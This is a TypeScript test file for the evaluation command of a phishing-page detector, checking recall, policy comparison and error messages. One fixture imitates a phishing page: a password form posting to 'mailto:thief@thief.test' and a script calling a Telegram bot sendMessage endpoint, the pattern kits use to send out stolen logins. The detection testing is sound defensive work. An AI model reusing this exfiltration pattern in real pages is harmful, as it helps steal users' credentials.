import { expect } from 'chai';
import { readFileSync, writeFileSync } from 'node:fs';
import { openEvidence } from '../../evidence/store.ts';
import type { Evaluation } from '../../classifiers/evaluation/evaluate.ts';
import { captureOf, formOf } from '../classifiers/capture-builder.ts';
import { harrier, testFolder } from './harrier.ts';

describe('harrier evaluate', () => {
  const folder = testFolder();
  const labels = 'http://thief.test/\tmalicious\tphishing\tmine\tpassword\nhttp://news.test/\tbenign\tnews\tmine\nhttp://unseen.test/\tmalicious\tphishing\tmine\n';

  before(async () => {
    const evidence = openEvidence({ dir: folder.file('seen') });
    await evidence.put(captureOf({
      url: 'http://thief.test/', title: 'Sign in', body: 'Sign in to go on',
      forms: [formOf(['email', 'password'], { action: 'mailto:thief@thief.test' })],
      scripts: ['fetch("https://api.telegram.org/bot1:a/sendMessage")'],
    }));
    await evidence.put(captureOf({ url: 'http://news.test/', title: 'News of the day', body: `${'The council met on Tuesday. '.repeat(60)}`, links: ['http://news.test/contact'] }));
    writeFileSync(folder.file('labels.tsv'), labels);
  });

  it('judges kept captures again, without a visit, and counts what was never seen as missed', async () => {
    const { code, stdout, stderr } = await harrier(['evaluate', '--json', '--captures', 'seen', '--labels', 'labels.tsv'], { cwd: folder.path });
    expect({ code, stderr }).to.deep.equal({ code: 0, stderr: '' });
    const evaluation = JSON.parse(stdout) as Evaluation;
    expect(evaluation).to.include({ labelled: 3, judged: 2 });
    expect(evaluation.recall).to.include({ count: 1, of: 2 });
    expect(evaluation.falsePositives).to.deep.equal([]);
    expect(evaluation.detectors.map(({ name }) => name)).to.include('credential-form');
  });

  it('says what a second policy would change', async () => {
    const policy = JSON.parse(readFileSync(new URL('../../config/data/policy.json', import.meta.url), 'utf8')) as { version: string; deeds: string[] };
    writeFileSync(folder.file('never.json'), JSON.stringify({ ...policy, version: '2026-01-01.9', deeds: ['wallet-drainer/drainer-kit'] }));
    const { code, stdout } = await harrier(['evaluate', '--captures', 'seen', '--labels', 'labels.tsv', '--policy', 'never.json'], { cwd: folder.path });
    expect(code).to.equal(0);
    expect(stdout).to.match(/Policy 2026-01-01\.9: recall 0\.00 %/).and.to.match(/malicious [\d.]+ > suspicious/);
  });

  it('says what is missing, and what to do about it', async () => {
    const runs = await Promise.all([
      ['evaluate'], ['evaluate', '--captures', 'seen'], ['evaluate', '--captures', 'seen', '--labels', 'none.tsv'], ['evaluate', '--captures', 'empty', '--labels', 'labels.tsv'],
    ].map((args) => harrier(args, { cwd: folder.path })));
    expect(runs.map(({ code }) => code)).to.deep.equal([2, 2, 2, 1]);
    for (const [index, says] of [/--captures.*--lab/, /--labels/, /none\.tsv can't be read/, /harrier scan --evidence/].entries()) expect(runs[index]?.stderr).to.match(says);
  });
});
